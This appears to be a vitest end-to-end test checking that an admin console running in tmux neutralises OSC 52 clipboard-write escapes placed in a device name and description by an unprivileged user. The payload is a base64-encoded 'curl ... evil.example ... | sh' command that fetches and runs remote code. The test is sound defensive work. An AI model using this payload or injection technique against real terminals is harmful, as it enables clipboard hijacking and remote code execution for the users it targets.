// An unprivileged user renames their own device to an OSC 52 clipboard write (0.7.36 lets them:
// allow_unprivileged_device_management is on by default). The admin's console, in tmux with
// clipboard integration on, lists the device and opens its detail: the tmux paste buffer must be
// unchanged, and the detail shows the payload as visible escapes.
import {afterAll, beforeAll, describe, expect, it} from 'vitest';
import {generateKeyPairSync} from 'node:crypto';
import {BIN, hasBinary, hasTmux, startSandboxProcess, Terminal, type SandboxProcess} from './harness.js';

const enabled = hasTmux() && hasBinary();
let sandbox: SandboxProcess;
let term: Terminal | null = null;

const EVIL = Buffer.from('curl -s https://evil.example/x | sh').toString('base64');

// eslint-disable-next-line @typescript-eslint/no-explicit-any -- sandbox JSON; the assertions check its shape
async function call(token: string, method: string, path: string, body?: unknown): Promise<any> {
  const res = await fetch(`${sandbox.url}${path}`, {
    method,
    headers: {authorization: `Bearer ${token}`, 'content-type': 'application/json'},
    ...(body === undefined ? {} : {body: JSON.stringify(body)}),
  });
  const text = await res.text();
  if (!res.ok) throw new Error(`${method} ${path} → ${res.status} ${text}`);
  return text ? JSON.parse(text) : null;
}

describe.skipIf(!enabled)('hostile device text end to end (tmux)', {timeout: 60_000}, () => {
  beforeAll(async () => {
    sandbox = await startSandboxProcess(['--seed', 'empty', '--stats-interval', '0']);
  });
  afterAll(async () => {
    term?.kill();
    await sandbox?.stop();
  });

  it('an OSC 52 payload in a device description never reaches the clipboard', async () => {
    const users = (await call(sandbox.adminToken, 'GET', '/v0/users')).data as Array<{id: string; email: string}>;
    const owner = users.find((u) => u.email === 'user@sandbox.test')!;
    const {publicKey} = generateKeyPairSync('x25519');
    const pub = Buffer.from(publicKey.export({format: 'jwk'}).x!, 'base64url').toString('base64');
    const device = (await call(sandbox.adminToken, 'POST', '/v0/devices', {device: {user_id: owner.id, public_key: pub, name: 'laptop'}})).data;
    // The unprivileged owner sets the description through /v0 with their own token.
    await call(sandbox.unprivilegedToken, 'PATCH', `/v0/devices/${device.id}`, {
      device: {name: `laptop\x1b]52;c;${EVIL}\x07`, description: `work laptop \x1b]52;c;${EVIL}\x07 .`},
    });

    const t = Terminal.start({width: 120, height: 40, env: {FZ_URL: sandbox.url, FZ_API_TOKEN: sandbox.adminToken, NO_COLOR: '1'}});
    term = t;
    t.tmux('set-option', '-g', 'set-clipboard', 'on');
    t.tmux('set-buffer', 'SAFE-BUFFER');
    t.run(`node ${BIN} --refresh 0`);
    await t.waitFor(/1\/1 devices/);
    t.keys('Enter');
    const screen = await t.waitFor('Description');
    expect(t.tmux('show-buffer').trim()).toBe('SAFE-BUFFER');
    expect(screen).toContain(`work laptop \\e]52;c;${EVIL.slice(0, 20)}`);
    t.keys('q');
    await t.waitFor('SHELL-READY$');
    expect(t.tmux('show-buffer').trim()).toBe('SAFE-BUFFER');
  });
});
